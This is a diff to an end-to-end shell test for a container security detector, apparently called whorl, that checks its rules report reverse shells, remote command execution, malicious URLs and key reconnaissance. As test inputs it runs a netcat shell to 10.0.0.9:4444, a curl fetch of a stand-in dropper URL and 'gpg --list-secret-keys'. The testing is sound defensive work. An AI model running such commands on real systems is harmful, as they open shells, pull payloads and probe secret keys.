@@ -8,15 +8,28 @@
 . /e2e/lib.sh
 RULES=$E2E_DATA/rules
 EXEC_LOG=$E2E_TMP/exec.jsonl
-set -- --rules "$RULES/whorl"
+# whorl's rules are loaded as an installed relay loads them, by default, from the shipped rules
+# directory (here its copy, named by WHORL_RULES_DIR); one is switched off
+export WHORL_RULES_DIR=$RULES/whorl
+set -- --disable-rule gpg_key_reconnaissance
 [ -d "$RULES/sigmahq" ] && set -- "$@" --rules "$RULES/sigmahq"
 setup "$@" --exec-log "$EXEC_LOG"
-diag "rules: $(grep -i 'rules' "$E2E_TMP/relay.err" | head -n 3 | tr '\n' ' ')"
+diag "rules: $(grep -i 'rules' "$E2E_TMP/relay.err" | head -n 4 | tr '\n' ' ')"
+if grep -q "shipped rules: $RULES/whorl" "$E2E_TMP/relay.err" &&
+	grep -q "rules switched off: 1" "$E2E_TMP/relay.err"; then
+	ok "the shipped rules load without --rules; --disable-rule switched one off"
+else
+	not_ok "the shipped rules load without --rules; --disable-rule switched one off" \
+		"$(head -n 8 "$E2E_TMP/relay.err" | tr '\n' ' ')"
+fi
 
 REVERSE="Reverse Shell"
 NETCAT="Execution: Netcat Remote Code Execution in Container"
 B64ELF="Defense Evasion: Base64 ELF File Command Line Execution"
 CHILD="Unexpected Child Shell"
+RCE="Execution: Possible Remote Command Execution Detected"
+URL="Malicious URL Observed"
+GPG="Discovery: GPG Key Reconnaissance"
 PROXY="Execution: Program Run with Disallowed HTTP Proxy Env"
 ELF_B64=f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA
 
@@ -82,6 +95,11 @@ scenarios() {
 	check_event "$3: what the attacker ran through it has the shell for parent" \
 		Image /usr/bin/id ParentImage /usr/bin/dash whorl.StdoutType socket \
 		whorl.ContainerId "$C_ID"
+	expect_finding "$3: remote_command_execution" "$from" \
+		"$(printf 'category\t%s\nprocesses.0.binary.path\t/usr/bin/id\n' "$RCE"
+		printf 'processes.1.binary.path\t/usr/bin/dash\n'
+		container_fields)" \
+		"category=$(q "$RCE")" "containers.0.id=$C_ID"
 	listener_done "$serve"
 
 	# the same over IPv6, where the kernel has it (the debug kernels are built without)
@@ -113,6 +131,28 @@ scenarios() {
 		args_fields /tmp/nc -e /bin/sh 10.0.0.9 4444
 		container_fields)" \
 		"category=$(q "$NETCAT")" "containers.0.id=$C_ID"
+
+	# curl of a URL that intel lists (a url: line of e2e.intel), from a shell: the finding
+	# names the URL and the shell that ran curl (the guest has no DNS: the fetch itself fails)
+	from=$(mark)
+	ctr "$C_ID" /bin/sh -c '/usr/bin/curl -fsS --max-time 5 http://malware.example/stage2.sh; true' \
+		>/dev/null 2>&1
+	expect_finding "$3: malicious_url" "$from" \
+		"$(printf 'category\t%s\nprocesses.0.binary.path\t/usr/bin/curl\n' "$URL"
+		printf 'processes.1.binary.path\t/usr/bin/dash\n'
+		printf 'event.whorl.IntelUrl\thttp://malware.example/stage2.sh\n'
+		printf 'event.whorl.IntelUrlLabel\te2e-dropper-url\n'
+		container_fields)" \
+		"category=$(q "$URL")" "containers.0.id=$C_ID" "processes.0.binary.path=/usr/bin/curl"
+
+	# a rule switched off (--disable-rule) stays silent: the exec is judged, nothing reported
+	ctr_copy_in "$C_ID" "$E2E_DATA/hello" /tmp/gpg
+	from=$(mark)
+	ctr "$C_ID" /tmp/gpg --list-secret-keys >/dev/null
+	check_event "$3: the switched-off rule's exec was judged" Image /tmp/gpg \
+		whorl.ContainerId "$C_ID"
+	barrier "$C_ID"
+	expect_silence "$3: a_disabled_rule_is_silent" "$from" "category=$(q "$GPG")"
 
 	# an ELF header in base64 on a command line
 	from=$(mark)
@@ -149,17 +189,40 @@ scenarios() {
 	check_event "$3: a padded environment is marked incomplete" Image /usr/bin/true \
 		whorl.EnvIncomplete true whorl.ContainerId "$C_ID"
 
-	# silence: a benign workload (a shell script that lists, reads, loops and sleeps) with every
-	# rule loaded gives no rule's finding
+	# silence: a benign workload (a shell script that lists, reads, loops and sleeps; a package
+	# installed with dpkg, its maintainer script run; a web server serving curl and wget) with
+	# every rule loaded gives no rule's finding
+	ctr_copy_in "$C_ID" "$E2E_DATA/e2e-app.deb" /root/e2e-app.deb
 	barrier "$C_ID"
 	from=$(mark)
 	ctr "$C_ID" /bin/sh -c 'for i in 1 2 3; do ls / >/dev/null; cat /etc/os-release >/dev/null
 		id >/dev/null; uname -a >/dev/null; head -n 1 /etc/passwd >/dev/null; sleep 0.1; done
 		cd /tmp && mkdir -p work && cp /etc/passwd work/ && sha256sum work/passwd >/dev/null
 		rm -rf work' >/dev/null
+	# ... a package installed (dpkg runs its postinst through /bin/sh)
+	ctr "$C_ID" /usr/bin/dpkg -i /root/e2e-app.deb >/dev/null
+	# ... and a web server serving requests, fetched with curl and wget
+	ctr "$C_ID" /bin/sh -c 'mkdir -p /srv/www && echo hello >/srv/www/index.html
+		/usr/bin/busybox httpd -f -p 127.0.0.1:8080 -h /srv/www </dev/null >/dev/null 2>&1 &
+		httpd=$!
+		for i in 1 2 3 4 5 6 7 8 9 10; do
+			/usr/bin/curl -fsS http://127.0.0.1:8080/ >/dev/null 2>&1 && break
+			sleep 0.3
+		done
+		for i in 1 2 3; do
+			/usr/bin/curl -fsS http://127.0.0.1:8080/index.html >/dev/null
+			/usr/bin/busybox wget -q -O /dev/null http://127.0.0.1:8080/
+		done
+		kill $httpd' >/dev/null
 	barrier "$C_ID"
 	# (the barrier's own shell copies its sentinel into /tmp: SigmaHQ's rule for scripts in
 	# suspicious directories rightly names it; it is the test's plumbing, not the workload)
+	if [ "$(ctr "$C_ID" /usr/bin/cat /usr/share/e2e-app/state 2>&1)" = configured ]; then
+		ok "$3: the benign workload's package is installed and configured"
+	else
+		not_ok "$3: the benign workload's package is installed and configured" \
+			"$(ctr "$C_ID" /usr/bin/dpkg -l 2>&1 | tail -n 3 | tr '\n' ' ')"
+	fi
 	bdir=/tmp/.barrier-$BARRIERS
 	expect_silence "$3: benign_workload_is_silent" "$from" "containers.0.id=$C_ID" \
 		"$NOT_SENTINEL" \
@@ -168,4 +231,24 @@ scenarios() {
 }
 
 for_each_run scenarios
+
+# A relay killed (SIGKILL) cannot turn exec events off: the setting stays on, but with no one
+# subscribed the module captures and sends nothing, and the exec path pays nothing for it.
+run=${RUNS%% *}
+if start "after the scenarios" "${run%%:*}" "${run##*:}"; then
+	c0=$(status_get counters.execCaptured)
+	for i in 1 2 3; do ctr "$C_ID" /usr/bin/true; done
+	c1=$(status_get counters.execCaptured)
+	check "with a relay subscribed, each exec's context is captured (execCaptured $c0 then $c1)" \
+		sh -c '[ -n "$1" ] && [ -n "$2" ] && [ "$2" -ge $(($1 + 3)) ]' - "$c0" "$c1"
+	relay_stop KILL
+	check "a killed relay leaves exec events on" sh -c '[ "$1" = true ]' - \
+		"$(status_get config.execEvents)"
+	for i in 1 2 3 4 5; do ctr "$C_ID" /usr/bin/true; done
+	c2=$(status_get counters.execCaptured)
+	check "with no subscriber nothing is captured (execCaptured $c1 then $c2)" \
+		sh -c '[ -n "$1" ] && [ "$1" = "$2" ]' - "$c1" "$c2"
+	container_remove "$C_ID"
+fi
+"$WHORL" config --exec-events off >/dev/null
 finish
